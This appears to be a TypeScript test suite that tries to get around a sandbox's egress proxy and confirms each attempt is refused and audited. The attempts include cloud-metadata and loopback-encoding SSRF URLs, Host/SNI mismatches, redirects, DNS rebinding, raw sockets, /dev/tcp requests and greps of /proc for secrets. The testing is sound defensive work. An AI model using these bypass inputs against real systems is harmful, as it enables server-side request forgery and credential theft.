import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finished } from '../support/sandbox-commands.ts';
import { EgressBed, plainUpstream, secureUpstream, type EgressSandbox, type Upstream } from '../support/egress-bed.ts';
import { SANDBOX_MODES } from '../support/sandbox-modes.ts';
import type { Planted, PolicyBed } from './support.ts';
import { policyBed } from './support.ts';

const CANARY = `canary-${randomBytes(12).toString('hex')}`;
const NO_PROXY = {
  HTTP_PROXY: '',
  HTTPS_PROXY: '',
  http_proxy: '',
  https_proxy: '',
  ALL_PROXY: '',
};

const look = (text: string): string =>
  `grep -las -- '${text}' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps 2>/dev/null; grep -rlas -- '${text}' /workspace /tmp /etc /home /mnt 2>/dev/null; true`;

describe.each(SANDBOX_MODES)('ways around the broker, $name', (mode) => {
  let folder: string;
  let policies: PolicyBed;
  let bed: EgressBed;
  let sandbox: EgressSandbox;
  let other: EgressSandbox;
  let free: EgressSandbox;
  let api: Upstream;
  let plain: Upstream;
  let host: Server;
  let hits = 0;
  let mine: Planted;
  let theirs: Planted;
  let seen = 0;

  beforeAll(async () => {
    policies = await policyBed();
    folder = mkdtempSync(path.join(os.tmpdir(), 'longhaul-values-'));
    chmodSync(folder, 0o755);
    const secretsFile = path.join(folder, 'values.json');
    bed = await EgressBed.start({
      mode,
      rules: { hosts: {}, addresses: [] },
      policies: { databaseUrl: policies.databaseUrl, secretsFile, holdMs: 0 },
    });
    bed.name('api.test', '127.0.0.1');
    bed.name('evil.test', '127.0.0.1');
    bed.name('rebind.test', '127.0.0.1');
    api = await secureUpstream(bed.authority.issue('api.test'), (_req, res) => {
      res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
    });
    plain = await plainUpstream();
    host = createServer((socket) => {
      hits += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => host.listen(0, '0.0.0.0', resolve));

    const networking = {
      type: 'limited',
      allowed_hosts: ['api.test', 'rebind.test'],
      private_addresses: ['api.test'],
    };
    const session = await policies.session(networking);
    const another = await policies.session(networking);
    const unrestricted = await policies.session({ type: 'unrestricted' });
    mine = await policies.credential(session, { hosts: ['api.test'], value: `${CANARY}-mine` });
    theirs = await policies.credential(another, { hosts: ['api.test'], value: `${CANARY}-theirs` });
    const values = { [mine.id]: mine.value, [theirs.id]: theirs.value };
    writeFileSync(secretsFile, JSON.stringify(values), { mode: 0o644 });
    sandbox = await bed.sandbox('mine', session);
    other = await bed.sandbox('other', another);
    free = await bed.sandbox('free', unrestricted);
  }, 180_000);
  afterAll(async () => {
    api?.close();
    plain?.close();
    host?.close();
    await bed?.close();
    await policies?.close();
    rmSync(folder, { recursive: true, force: true });
  }, 180_000);

  const hostPort = (): number => (host.address() as AddressInfo).port;
  const inside = (line: string, env: Record<string, string> = {}): Promise<Finished> => sandbox.shell(line, env);
  /** Status and body of one request with curl, or the error of curl. */
  const curl = async (given: string, where: EgressSandbox = sandbox): Promise<string> => {
    const { stdout, stderr } = await where.shell(`curl -sS -m 20 ${given} -w '\\n%{http_code} %{http_connect}'`);
    return `${stdout}\n${stderr}`;
  };
  const rows = async <T extends object>(sql: string, values: unknown[]): Promise<T[]> =>
    (await policies.pool.query<T>(sql, values)).rows;
  /** What was refused in this session since the last look. */
  const refused = async (count = 1): Promise<{ code: string; host: string | null }[]> => {
    const read = (): Promise<{ code: string; host: string | null }[]> =>
      rows(
        `SELECT code, host FROM egress_requests WHERE session_id = $1 AND state = 'denied' ORDER BY created_at OFFSET $2`,
        [sandbox.sessionId, seen],
      );
    await expect.poll(async () => (await read()).length, { timeout: 20_000 }).toBeGreaterThanOrEqual(count);
    const found = await read();
    seen += found.length;
    return found;
  };
  const rebound = (): Promise<{ state: string; error: string | null }[]> =>
    rows(`SELECT state, error FROM egress_requests WHERE session_id = $1 AND host = 'rebind.test'`, [
      sandbox.sessionId,
    ]);
  const incidents = async (): Promise<string[]> =>
    (
      await rows<{ kind: string }>('SELECT kind FROM security_events WHERE session_id = $1 ORDER BY created_at', [
        sandbox.sessionId,
      ])
    ).map(({ kind }) => kind);

  it('the way through the broker works: what follows fails for its own reason', async () => {
    const answer = await curl(`-H 'authorization: Bearer ${mine.placeholder}' https://api.test:${api.port}/echo`);
    expect(answer).toContain('200');
    expect(answer).toContain(mine.placeholder);
    expect(answer).not.toContain(CANARY);
    expect(api.requests.at(-1)?.headers.authorization).toBe(`Bearer ${mine.value}`);
  }, 120_000);

  it('without the proxy there is no network: addresses, names, IPv6, the host, its own interfaces', async () => {
    const addresses = Object.values(os.networkInterfaces())
      .flat()
      .filter((one) => one?.family === 'IPv4')
      .map((one) => one?.address ?? '');
    const targets = [
      'http://1.1.1.1/',
      'http://169.254.169.254/',
      'http://[2606:4700:4700::1111]/',
      'http://example.com/',
      ...['127.0.0.1', ...addresses].map((address) => `http://${address}:${hostPort()}/`),
      `http://127.0.0.1:${bed.port}/healthz`,
    ];
    const lines = targets.map((url) => `curl -s -m 5 '${url}' >/dev/null && echo 'reached ${url}'`);
    const { stdout } = await inside(`${lines.join('\n')}\necho done`, NO_PROXY);
    expect(stdout.trim()).toBe('done');
    expect(hits).toBe(0);
    const udp = await inside(
      `(echo x > /dev/udp/8.8.8.8/53) 2>&1; (echo x > /dev/udp/127.0.0.1/${hostPort()}) 2>&1; getent hosts example.com; echo end; cat /proc/net/route /proc/net/dev`,
      NO_PROXY,
    );
    expect(udp.stdout).toContain('Network is unreachable');
    expect(
      udp.stdout
        .split('end\n')[1]
        ?.match(/^\s*\w+(?=:)/gm)
        ?.map((name) => name.trim()),
    ).toEqual(['lo']);
  }, 120_000);

  it('no raw, packet or vsock socket', async () => {
    const kinds: [number, number][] = [
      [40, 1],
      [17, 3],
      [2, 3],
      [10, 3],
      [16, 3],
    ];
    for (const [family, type] of kinds) {
      const made = await inside(`perl -e 'print socket(my $s, ${family}, ${type}, 0) ? "made" : "refused: $!"'`);
      // Netlink of the sandbox's own, empty network is harmless, and resolvers need it.
      if (family !== 16) expect(made.stdout, `family ${family}`).toMatch(/^refused/);
    }
  }, 120_000);

  it('other sandboxes are out of reach', async () => {
    const server = `require('http').createServer((q, r) => r.end('from the other')).listen(9999, '0.0.0.0', () => console.log('up'))`;
    const started = await other.shell(
      `node -e "${server}" >/dev/null 2>&1 & sleep 0.2; curl -s --retry 20 --retry-connrefused --noproxy '*' http://127.0.0.1:9999/`,
    );
    expect(started.stdout).toBe('from the other');
    const direct = await inside(`curl -s -m 5 http://127.0.0.1:9999/ || echo closed`, NO_PROXY);
    expect(direct.stdout.trim()).toBe('closed');
    expect(await curl(`--noproxy '' http://127.0.0.1:9999/`)).toContain('host_not_allowed');
    expect(await refused()).toMatchObject([{ code: 'host_not_allowed', host: '127.0.0.1' }]);
  }, 120_000);

  it.each([
    ['an address', () => `https://1.1.1.1/`],
    ['IPv6', () => `https://[::1]:${api.port}/`],
    ['the metadata address', () => 'http://169.254.169.254/latest/meta-data/'],
    ['the host', () => `http://127.0.0.1:${hostPort()}/`],
    ['the control interface', () => `http://127.0.0.1:${bed.port}/sandboxes/x`],
    ['a name that is not allowed', () => `https://evil.test:${api.port}/`],
    ['the same in upper case with a dot', () => `https://EVIL.TEST.:${api.port}/`],
    ['a name below an allowed one', () => `https://x.api.test:${api.port}/`],
    ['a name with an allowed one in front', () => `https://api.test.evil.test:${api.port}/`],
  ])(
    '%s is refused by the proxy and recorded',
    async (_name, url) => {
      const answer = await curl(`--noproxy '' -k '${url()}'`);
      expect(answer).toMatch(/403/);
      expect(await refused()).toMatchObject([{ code: 'host_not_allowed' }]);
      expect(hits).toBe(0);
    },
    120_000,
  );

  it.each([
    ['decimal', () => `http://2130706433:${hostPort()}/`],
    ['octal', () => `http://0177.0.0.1:${hostPort()}/`],
    ['hexadecimal', () => `http://0x7f.0.0.1:${hostPort()}/`],
    ['mapped', () => `http://[::ffff:127.0.0.1]:${hostPort()}/`],
    ['nothing', () => `http://0.0.0.0:${hostPort()}/`],
    ['a name of it', () => `http://localhost:${hostPort()}/`],
  ])(
    'an unrestricted sandbox does not reach the host either: %s',
    async (_name, url) => {
      const target = new URL(url());
      const raw = url().slice('http://'.length, -1);
      // By hand: clients turn such addresses into the plain form themselves.
      const { stdout } = await free.shell(
        `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://${raw}/ HTTP/1.1\\r\\nhost: ${raw}\\r\\nconnection: close\\r\\n\\r\\n' >&3; cat <&3`,
      );
      expect(stdout, target.href).toMatch(/^HTTP\/1\.1 (?:4\d\d |502 [\s\S]*name_not_found)/);
      expect(hits).toBe(0);
    },
    120_000,
  );

  it('an upper-case name with a dot is the allowed name itself', async () => {
    expect(await curl(`-H 'x-remember: 1' https://API.TEST.:${api.port}/upper`)).toContain('200');
    expect(api.requests.at(-1)?.headers.host ?? api.requests.at(-1)?.url).toBeDefined();
  }, 120_000);

  it('what the tunnel, the TLS hello and the request name must be one', async () => {
    expect(await curl(`--http1.1 -H 'host: evil.test' https://api.test:${api.port}/echo`)).toContain('421');
    expect(await curl(`--connect-to evil.test:443:api.test:${api.port} https://evil.test/echo`)).not.toContain(
      '200 200',
    );
    expect(await curl(`--http1.1 -H 'host: evil.test' http://api.test:${plain.port}/echo`)).toMatch(/4(?:21|00)/);
    await refused(3);
    await expect.poll(incidents, { timeout: 20_000 }).toContain('host_mismatch');
    expect(plain.requests).toEqual([]);
  }, 120_000);

  it('a redirect to a private address ends there', async () => {
    const answer = await curl(`-L https://api.test:${api.port}/redirect`);
    expect(answer).toContain('host_not_allowed');
    expect(await refused()).toMatchObject([{ code: 'host_not_allowed', host: '169.254.169.254' }]);
  }, 120_000);

  it('a name that is allowed but leads inside is refused, and told', async () => {
    expect(await curl(`-k https://rebind.test:${api.port}/echo`)).toContain('address_forbidden');
    await expect.poll(incidents, { timeout: 20_000 }).toContain('address_refused');
    await expect.poll(rebound, { timeout: 20_000 }).toEqual([{ state: 'failed', error: 'address_forbidden' }]);
  }, 120_000);

  it('placeholders: sent elsewhere, guessed, replayed from another session', async () => {
    const before = (await incidents()).length;
    const guess = `ghp_${'0'.repeat(36)}`;
    const send = (token: string, url = `https://api.test:${api.port}/echo`): Promise<string> =>
      curl(`-k -H 'authorization: Bearer ${token}' '${url}'`);
    expect(await send(mine.placeholder, `https://evil.test:${api.port}/`)).toContain('placeholder_misused');
    expect(await send(theirs.placeholder)).toContain('placeholder_foreign');
    expect(await send(guess)).toContain('placeholder_unknown');
    expect(await curl(`-k -u 'git:${theirs.placeholder}' https://api.test:${api.port}/echo`)).toContain(
      'placeholder_foreign',
    );
    expect(await curl(`-k -d 'a=${mine.placeholder}' https://api.test:${api.port}/echo`)).toContain(
      'placeholder_misused',
    );
    expect(await curl(`-k 'https://api.test:${api.port}/${mine.placeholder}'`)).toContain('placeholder_misused');
    expect((await refused(6)).map(({ code }) => code)).toEqual([
      'placeholder_misused',
      'placeholder_foreign',
      'placeholder_unknown',
      'placeholder_foreign',
      'placeholder_misused',
      'placeholder_misused',
    ]);
    await expect.poll(async () => (await incidents()).length, { timeout: 20_000 }).toBe(before + 6);
    expect(JSON.stringify(api.requests)).not.toContain(theirs.value);
  }, 120_000);

  it('no value is in an environment, a process, a file or a row; the placeholder is', async () => {
    await inside(`echo ${mine.placeholder} > /workspace/seen`);
    const env = { GITHUB_TOKEN: mine.placeholder };
    const [first, ...rest] = [CANARY.slice(0, 12), CANARY.slice(12)];
    // The text that is looked for is put together inside, so that the search does not find itself.
    const found = await inside(
      `a='${first}'; b='${rest.join('')}'; ${look('$a$b').replaceAll("'$a$b'", '"$a$b"')}`,
      env,
    );
    expect(found.stdout).toBe('');
    const control = await inside(look(mine.placeholder), env);
    expect(control.stdout).toContain('/workspace/seen');
    expect(control.stdout).toMatch(/\/proc\/\d+\/environ/);

    const tables = await rows<{ name: string }>(
      `SELECT quote_ident(table_name) AS name FROM information_schema.tables WHERE table_schema = 'public'`,
      [],
    );
    const where = async (text: string): Promise<string[]> => {
      const names: string[] = [];
      for (const { name } of tables) {
        const [hit] = await rows<{ n: number }>(`SELECT count(*)::int AS n FROM ${name} t WHERE t::text LIKE $1`, [
          `%${text}%`,
        ]);
        if ((hit?.n ?? 0) > 0) names.push(name);
      }
      return names;
    };
    expect(await where(CANARY)).toEqual([]);
    expect((await where(mine.placeholder)).toSorted()).toEqual(['egress_requests', 'session_credentials']);
    expect(JSON.stringify(bed.log())).not.toContain(CANARY);
  }, 120_000);

  it('a broker that is killed leaves the sandbox without network, and the request it carried in the audit', async () => {
    const hung = await secureUpstream(bed.authority.issue('api.test'), () => undefined);
    try {
      const sent = inside(
        `curl -sS -m 60 -H 'authorization: Bearer ${mine.placeholder}' https://api.test:${hung.port}/hang`,
      );
      const started = (): Promise<{ state: string; credentials: string[] }[]> =>
        rows(`SELECT state, credentials FROM egress_requests WHERE session_id = $1 AND path = '/hang'`, [
          sandbox.sessionId,
        ]);
      await expect.poll(started, { timeout: 30_000 }).toEqual([{ state: 'started', credentials: ['GITHUB_TOKEN'] }]);
      await bed.killBroker();
      expect((await sent).status).toMatchObject({ state: 'exited' });
      const alone = await inside(`curl -sS -m 5 https://api.test:${api.port}/echo`);
      expect(alone.status).not.toMatchObject({ exitCode: 0 });
      expect(await started()).toEqual([{ state: 'started', credentials: ['GITHUB_TOKEN'] }]);
      await bed.startBroker();
      await expect
        .poll(() => curl(`-H 'authorization: Bearer ${mine.placeholder}' https://api.test:${api.port}/echo`), {
          timeout: 60_000,
        })
        .toContain(mine.placeholder);
      await bed.client.refresh(sandbox.sessionId);
      const numbers = async (): Promise<number[]> =>
        (
          await rows<{ seq: number }>('SELECT seq FROM egress_requests WHERE sandbox_id = $1 ORDER BY seq', [
            sandbox.ref.id,
          ])
        ).map(({ seq }) => seq);
      const all = await numbers();
      expect(all).toEqual(Array.from({ length: all.length }, (_, at) => at + 1));
    } finally {
      hung.close();
    }
  }, 180_000);
});
